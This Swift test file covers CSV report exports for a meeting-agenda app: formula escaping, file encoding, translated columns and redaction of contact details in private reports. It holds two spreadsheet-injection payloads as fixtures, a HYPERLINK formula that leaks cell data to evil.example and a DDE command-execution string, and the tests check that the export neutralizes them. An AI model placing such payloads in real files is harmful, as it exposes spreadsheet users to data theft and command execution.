@testable import AgendaLocalization
import AgendaModel
import AgendaReports
import Foundation
import Testing
import TestSupport

/// The CSV files people open in a spreadsheet and programs read: kinds, words, formulas, privacy.
@Suite struct ReportCSVTests {
    static let formulaTitles = [#"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0"]

    /// The fixture's run session, ended, with two goals titled as formulas.
    func agenda() throws -> Agenda {
        var agenda = SessionFixtures.runAgenda()
        try agenda.apply(.changeSession(id: "S-0001", .end), by: "Facilitadora", at: SessionFixtures.time(20))
        for (index, title) in Self.formulaTitles.enumerated() {
            try agenda.apply(.createGoal(Goal(id: "G-FRM\(index)", title: title, area: "leadership", createdAt: Fixtures.time)),
                             by: "Ana", at: Fixtures.time)
        }
        return agenda
    }

    func report(_ agenda: Agenda, _ language: Language = .english, isPrivate: Bool = false) -> ProgressReport {
        ProgressReport(agenda: agenda, strings: Strings(language), today: Day("2026-02-01")!, isPrivate: isPrivate)
    }

    func rows(_ csv: String) -> [[String]] {
        CSVReader.parse(csv.hasPrefix("\u{FEFF}") ? String(csv.dropFirst()) : csv)
    }

    @Test func formulasAreNeutralizedForSpreadsheetsAndUntouchedRaw() throws {
        let agenda = try agenda()
        let sheet = rows(report(agenda).csv())
        let raw = rows(report(agenda).csv(.goals, .raw()))
        for (index, title) in Self.formulaTitles.enumerated() {
            #expect(sheet.first { $0[0] == "G-FRM\(index)" }?[1] == "'" + title)
            #expect(raw.first { $0[0] == "G-FRM\(index)" }?[1] == title)
        }
        // The listing's CSV too, unless raw.
        let listed = GoalCSV.render(agenda.goals, options: CSVOptions(words: nil, neutralizesFormulas: true, byteOrderMark: false))
        #expect(listed.contains("\r\nG-FRM0,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","))
        #expect(listed.contains("\r\nG-FRM1,'+cmd|' /C calc'!A0,"))
        #expect(SpreadsheetCell.neutralized("-5") == "'-5" && SpreadsheetCell.neutralized("@SUM(A1)") == "'@SUM(A1)")
        #expect(SpreadsheetCell.neutralized("\tx") == "'\tx" && SpreadsheetCell.neutralized("\r\nx") == "'\r\nx")
        #expect(SpreadsheetCell.neutralized("Plan = budget") == "Plan = budget")
    }

    @Test func everyFileHasAByteOrderMarkAndCRLFLineEndsUnlessTold() throws {
        let agenda = try agenda()
        for kind in CSVKind.allCases {
            let csv = report(agenda).csv(kind, .spreadsheet(Strings(.english)))
            #expect(csv.hasPrefix("\u{FEFF}"))
            #expect(csv.hasSuffix("\r\n") && !csv.replacingOccurrences(of: "\r\n", with: "").contains("\r"))
            #expect(!report(agenda).csv(kind, .raw(byteOrderMark: false)).hasPrefix("\u{FEFF}"))
        }
    }

    @Test func sessionsDecisionsAndActionsParseBackToTheAgenda() throws {
        let agenda = try agenda()
        let session = try #require(agenda.session("S-0001"))
        let sessions = rows(report(agenda).csv(.sessions, .raw()))
        #expect(sessions[0] == ["id", "date", "title", "place", "facilitator", "state", "languages", "organizations", "people", "items",
                                "plannedMinutes", "takenSeconds", "decisions", "votes", "actions"])
        #expect(sessions[1] == ["S-0001", "2026-01-15", "Asamblea de Morelia", "Morelia", "Comité de Organización", "closed", "es; en",
                                "2", "2", "3", "35", "1200", "1", "1", "1"])
        let words = rows(report(agenda, .spanish).csv(.sessions, .spreadsheet(Strings(.spanish))))
        #expect(words[0].prefix(3) == ["ID", "Fecha", "Título"] && words[1][5] == "cerrada" && words[1][6] == "español; inglés")
        #expect(words[1][10] == "0:35:00" && words[1][11] == "0:20:00")
        let decisions = rows(report(agenda).csv(.decisions, .raw()))
        #expect(decisions.dropFirst().map { Array($0.prefix(9)) } == [
            ["S-0001", "2026-01-15", "I-1", "decision", session.items[0].decisions[0].text, "", "", "", ""],
            ["S-0001", "2026-01-15", "I-1", "vote", "¿Aprobar el presupuesto?", "14", "3", "2", "carried"],
        ])
        #expect(decisions[2][9] == "2026-01-15T12:10:00Z")
        let spanishDecisions = rows(report(agenda, .spanish).csv(.decisions, .spreadsheet(Strings(.spanish))))
        #expect(spanishDecisions[2][2] == "1. Train migrant leaders (G-0001)" && spanishDecisions[2][3] == "votación")
        #expect(spanishDecisions[2][8] == "aprobada" && spanishDecisions[2][9] == "2026-01-15 12:10:00")
        let actions = rows(report(agenda).csv(.actions, .raw()))
        #expect(actions[1] == ["S-0001", "2026-01-15", "I-2", "G-ACT1", "Enviar la carta al Congreso de Michoacán", "Comité Legislativo",
                               "2026-02-15", "active", "0"])
    }

    @Test func goalsInWordsNameStatusesAreasOrganizationsAndCountriesAndGiveNotesText() throws {
        var agenda = try agenda()
        try agenda.apply([.setGoal(id: "G-0001", .level(.national)), .addNote(goal: "G-0001", text: "Primera nota"),
                          .setGoal(id: "G-0001", .countries(["MX", "US"]))], by: "Leadership Committee", at: Fixtures.time)
        let french = rows(report(agenda, .french).csv())
        let header = french[0]
        let row = try #require(french.first { $0[0] == "G-0001" })
        func cell(_ name: String) -> String { row[header.firstIndex(of: name)!] }
        #expect(cell("Statut") == "actif" && cell("Niveau") == "national" && cell("Domaine") == "Leadership")
        #expect(cell("Pays") == "Mexique; États-Unis" && cell("Organisations") == "Alianza")
        #expect(cell("Notes") == "2026-01-15 Leadership Committee: Primera nota")
        #expect(cell("Créé") == "2026-01-15 12:00:00")
        let raw = rows(report(agenda).csv(.goals, .raw()))
        let rawRow = try #require(raw.first { $0[0] == "G-0001" })
        #expect(rawRow[raw[0].firstIndex(of: "countries")!] == "MX; US" && rawRow[raw[0].firstIndex(of: "createdAt")!] == "2026-01-15T12:00:00Z")
    }
}

/// `--private`: contacts in free text and names other than owners are left out.
@Suite struct PrivacyTests {
    static let note = "Llamar a Lucía: lucia.hernandez@example.org, +52 443 123 4567 o (212) 555-0199."

    @Test func contactsAreFoundAndDatesAmountsAndYearsAreNot() {
        let removed = ContactText.redacting(Self.note, with: "[contact removed]")
        #expect(removed == "Llamar a Lucía: [contact removed], [contact removed] o [contact removed].")
        for kept in ["Meeting on 2026-11-29 and 29.11.2026", "For 2025-2026", "US$ 1.500.000 and 12 500 000 pesos", "14 for, 3 against",
                     "G-7K2M and S-4F2K", "item I-3 at 14:05", "Call 06 12 34 56 78"].dropLast() {
            #expect(ContactText.redacting(kept, with: "X") == kept, "\(kept)")
        }
        #expect(ContactText.redacting("Call 06 12 34 56 78 today", with: "X") == "Call X today")
        #expect(ContactText.redacting("mail ana@org", with: "X") == "mail ana@org")
    }

    @Test func aPrivateReportRedactsANoteThatHoldsBothAndLeavesOutItsAuthor() throws {
        var agenda = SessionFixtures.runAgenda()
        try agenda.apply(.addNote(goal: "G-0001", text: Self.note), by: "Rosa Villanueva", at: Fixtures.time.addingTimeInterval(60))
        try agenda.apply(.addNote(goal: "G-0001", text: "Owner's note: ana@example.org"), by: "Leadership Committee",
                         at: Fixtures.time.addingTimeInterval(120))
        let open = ProgressReport(agenda: agenda, strings: Strings(.english), today: Day("2026-02-01")!, since: Day("2026-01-01"))
        let closed = ProgressReport(agenda: agenda, strings: Strings(.english), today: Day("2026-02-01")!, since: Day("2026-01-01"),
                                    isPrivate: true)
        #expect(open.markdown().contains("lucia.hernandez@example.org") && open.csv().contains("Rosa Villanueva"))
        for text in [closed.markdown(), closed.html(), closed.csv(), closed.csv(.goals, .raw())] {
            #expect(!text.contains("lucia.hernandez@example.org") && !text.contains("443 123 4567") && !text.contains("555-0199"))
            #expect(!text.contains("ana@example.org") && !text.contains("Rosa Villanueva"))
        }
        #expect(closed.markdown().contains(#"| Jan 15, 2026 | Leadership Committee | G-0001 | notes: + Llamar a Lucía: \[contact removed\], "#
            + #"\[contact removed\] o \[contact removed\]., Owner's note: \[contact removed\] |"#))
        let notes = CSVReader.parse(String(closed.csv().dropFirst())).first { $0[0] == "G-0001" }?[15]
        #expect(notes == "2026-01-15: Llamar a Lucía: [contact removed], [contact removed] o [contact removed].\n"
            + "2026-01-15 Leadership Committee: Owner's note: [contact removed]")
        let spanish = ProgressReport(agenda: agenda, strings: Strings(.spanish), today: Day("2026-02-01")!, isPrivate: true).csv()
        #expect(spanish.contains("[contacto eliminado]"))
    }
}
